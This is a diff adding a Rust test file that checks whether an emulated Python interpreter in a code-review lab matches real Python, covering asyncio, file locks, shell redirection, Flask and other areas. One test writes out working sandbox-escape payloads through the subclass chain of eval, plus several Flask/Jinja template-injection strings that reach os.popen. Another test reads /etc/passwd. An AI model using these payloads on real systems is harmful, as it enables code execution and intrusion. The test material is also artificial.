@@ -1,0 +1,160 @@
+//! What code under review finds in the lab's library, where the interpreter or the lab once differed from the real thing.
+
+#![cfg(feature = "python")]
+
+mod judge_support;
+
+use judge_support::{Case, run};
+use riskline::core::verdict::Verdict;
+
+/// Runs a piece of code as a file of a challenge; it holds where nothing is raised.
+fn holds(name: &str, code: &str) {
+    let indented = code.trim().replace('\n', "\n    ");
+    let file = format!("def main():\n    {indented}\n");
+    let case = Case::new("app.py", "").function(name, "import app\napp.main()");
+    let report = run(&case, &file);
+    assert_eq!(report.checks[0].verdict, Verdict::Holds, "{name}: {report:#?}");
+}
+
+#[test]
+fn numbers_compare_as_they_do_outside() {
+    holds(
+        "decimals and whole numbers",
+        "from decimal import Decimal\nimport numbers\n\
+         assert Decimal('3') == 3 and Decimal('0.5') < 1 and max(Decimal(2), 1) == 2\n\
+         assert isinstance(3, numbers.Real) and issubclass(bool, numbers.Rational)",
+    );
+}
+
+#[test]
+fn classes_with_slots_are_made() {
+    holds(
+        "dataclass with slots",
+        "from dataclasses import dataclass\n\
+         @dataclass(frozen=True, slots=True)\nclass Order:\n    id: int\n    owner: str | None = None\n\
+         assert Order(3).owner is None\nassert not hasattr(Order(3), '__dict__')",
+    );
+}
+
+#[test]
+fn tasks_take_turns() {
+    holds(
+        "tasks",
+        "import asyncio\nbalance = [100]\n\
+         async def take(n, lock=None):\n    if lock:\n        async with lock:\n            return await take(n)\n    \
+         seen = balance[0]\n    await asyncio.sleep(0)\n    balance[0] = seen - n\n\
+         async def main(lock):\n    await asyncio.gather(take(10, lock), take(20, lock))\n\
+         asyncio.run(main(None))\nassert balance == [80], balance\n\
+         async def safe():\n    await main(asyncio.Lock())\n\
+         asyncio.run(safe())\nassert balance == [50], balance",
+    );
+    holds(
+        "timers move the clock",
+        "import asyncio, time\nasync def main():\n    before = time.time()\n    \
+         try:\n        async with asyncio.timeout(2):\n            await asyncio.sleep(60)\n    \
+         except TimeoutError:\n        return time.time() - before\n\
+         assert asyncio.run(main()) == 2",
+    );
+    holds(
+        "processes of asyncio",
+        "import asyncio\nasync def main():\n    \
+         p = await asyncio.create_subprocess_shell('echo a; echo b >&2', stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)\n    \
+         return await p.communicate(), p.returncode\n\
+         assert asyncio.run(main()) == ((b'a\\n', b'b\\n'), 0)",
+    );
+}
+
+#[test]
+fn locks_on_files_hold_until_they_are_closed() {
+    holds(
+        "flock",
+        "import fcntl\na, b = open('/tmp/l', 'w'), open('/tmp/l', 'w')\nfcntl.flock(a, fcntl.LOCK_EX)\n\
+         try:\n    fcntl.flock(b, fcntl.LOCK_EX | fcntl.LOCK_NB)\n    assert False, 'both hold it'\n\
+         except BlockingIOError:\n    pass\na.close()\nfcntl.flock(b, fcntl.LOCK_EX | fcntl.LOCK_NB)",
+    );
+}
+
+#[test]
+fn an_alarm_rings_while_the_code_waits() {
+    holds(
+        "alarm",
+        "import signal, time\ndef ring(number, frame):\n    raise TimeoutError\n\
+         signal.signal(signal.SIGALRM, ring)\nsignal.alarm(2)\n\
+         try:\n    time.sleep(5)\n    assert False, 'it did not ring'\nexcept TimeoutError:\n    pass",
+    );
+}
+
+#[test]
+fn the_shell_joins_and_parts_its_outputs() {
+    holds(
+        "redirections",
+        "import subprocess\ndef sh(line):\n    r = subprocess.run(line, shell=True, capture_output=True, text=True)\n    return r.stdout, r.stderr\n\
+         assert sh('ls /nope 2>&1 | grep -c nope') == ('1\\n', '')\nassert sh('echo x >&2') == ('', 'x\\n')\n\
+         assert sh('ls /nope > /tmp/o 2>&1; cat /tmp/o')[0].startswith('ls: cannot')\n\
+         assert sh('test -f /etc/passwd && [ 2 -gt 1 ] && cut -d: -f1 /etc/passwd | head -1')[0] == 'root\\n'",
+    );
+}
+
+/// The classical ways out of a sandbox and out of a template are what weak originals are attacked with.
+#[test]
+fn ways_out_of_home_made_sandboxes_lead_out() {
+    holds(
+        "eval without builtins",
+        "import os\ndef find(name):\n    return f\"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '{name}'][0]\"\n\
+         none = {'__builtins__': {}}\n\
+         assert eval(find('_wrap_close') + \".__init__.__globals__['system']('true')\", none) == 0\n\
+         assert eval(find('catch_warnings') + \"()._module.__builtins__['__import__']('os').getcwd()\", none) == '/app'",
+    );
+    holds(
+        "templates",
+        "import flask\napp = flask.Flask('x')\nwith app.test_request_context('/'):\n    \
+         for text in ('cycler.__init__.__globals__.os', \"lipsum.__globals__['os']\", \"config.__class__.__init__.__globals__['os']\", \
+         'url_for.__globals__.__builtins__.__import__(\"os\")', 'request.application.__globals__.__builtins__.__import__(\"os\")'):\n        \
+         out = flask.render_template_string('{{ ' + text + '.popen(\"echo 42\").read() }}')\n        assert out.strip() == '42', (text, out)",
+    );
+}
+
+#[test]
+fn flask_classes_of_views_answer() {
+    holds(
+        "MethodView",
+        "from flask import Flask, abort\nfrom flask.views import MethodView\ncalls = []\n\
+         def noted(f):\n    def inner(**kw):\n        calls.append(kw)\n        return f(**kw)\n    return inner\n\
+         class Item(MethodView):\n    decorators = [noted]\n    def get(self, n):\n        return {'n': n}\n    \
+         def delete(self, n):\n        abort(403)\n\
+         app = Flask('x')\napp.add_url_rule('/i/<int:n>', view_func=Item.as_view('item'))\nc = app.test_client()\n\
+         assert c.get('/i/3').json == {'n': 3} and calls == [{'n': 3}]\n\
+         assert c.delete('/i/3').status_code == 403 and c.post('/i/3').status_code == 405",
+    );
+}
+
+#[test]
+fn packages_have_the_modules_that_code_imports_from() {
+    holds(
+        "modules",
+        "from jwt.exceptions import ExpiredSignatureError, InvalidTokenError\nimport jwt\n\
+         assert InvalidTokenError is jwt.InvalidTokenError and issubclass(ExpiredSignatureError, InvalidTokenError)\n\
+         from itsdangerous.url_safe import URLSafeTimedSerializer\nfrom itsdangerous.exc import BadSignature\n\
+         from yaml.loader import SafeLoader\nfrom werkzeug.utils import safe_join\nassert safe_join('/a', '../b') is None\n\
+         import http.server, socketserver, selectors, logging.config, wsgiref.simple_server, urllib.robotparser, resource, multiprocessing",
+    );
+}
+
+#[test]
+fn a_handler_of_http_server_is_reached_by_the_client() {
+    let case = Case::new("app.py", "").function(
+        "it answers",
+        "import app\nweb = client(app.Handler)\nr = web.post('/a?b=1', json={'x': 'é'}, headers={'X-Who': 'ana'})\n\
+         expect(r.status == 201 and r.json == {'path': '/a?b=1', 'x': 'é', 'who': 'ana'}, r.text)\n\
+         expect(web.get('/').status == 501, 'an unknown method')",
+    );
+    let report = run(
+        &case,
+        "import json\nfrom http.server import BaseHTTPRequestHandler\n\n\nclass Handler(BaseHTTPRequestHandler):\n    \
+         def do_POST(self):\n        body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n        \
+         out = json.dumps({'path': self.path, 'x': body['x'], 'who': self.headers['x-who']}).encode()\n        \
+         self.send_response(201)\n        self.send_header('Content-Type', 'application/json')\n        self.end_headers()\n        \
+         self.wfile.write(out)\n",
+    );
+    assert_eq!(report.checks[0].verdict, Verdict::Holds, "{report:#?}");
+}
